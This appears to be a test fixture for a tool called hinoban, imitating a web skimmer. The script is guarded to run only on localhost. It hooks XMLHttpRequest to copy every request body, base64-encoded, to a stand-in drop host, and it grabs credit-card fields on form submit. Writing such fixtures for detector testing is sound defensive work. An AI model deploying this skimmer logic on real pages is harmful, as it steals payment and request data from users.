/* Harmless imitation, for hinoban's tests: XMLHttpRequest hooked: a copy of what the page sends. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
var send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (b) { if (b) new Image().src = 'http://drop.localhost:' + location.port + '/p.gif?b=' + encodeURIComponent(btoa(unescape(encodeURIComponent(String(b))))); return send.apply(this, arguments); };
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { var x = new XMLHttpRequest(); x.open('POST', '/api/suggest'); x.send('card=' + n.value); } }, true);
